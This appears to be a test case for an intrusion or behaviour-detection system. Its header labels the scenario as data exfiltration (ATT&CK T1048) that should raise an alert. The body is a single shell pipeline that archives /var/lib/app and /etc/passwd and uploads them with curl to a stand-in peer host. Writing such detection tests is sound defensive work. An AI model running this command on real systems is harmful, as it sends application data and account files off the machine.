# id: N17
# title: An archive of the application's data is sent away
# expect: alert
# severity: medium
# kinds: network, process
# attck: T1048
# image: tools
# launch: app
# peers: http:8000

tar czf - /var/lib/app /etc/passwd 2>/dev/null | curl -s -m 5 -T - http://http:8000/in/1 >/dev/null
exit 0
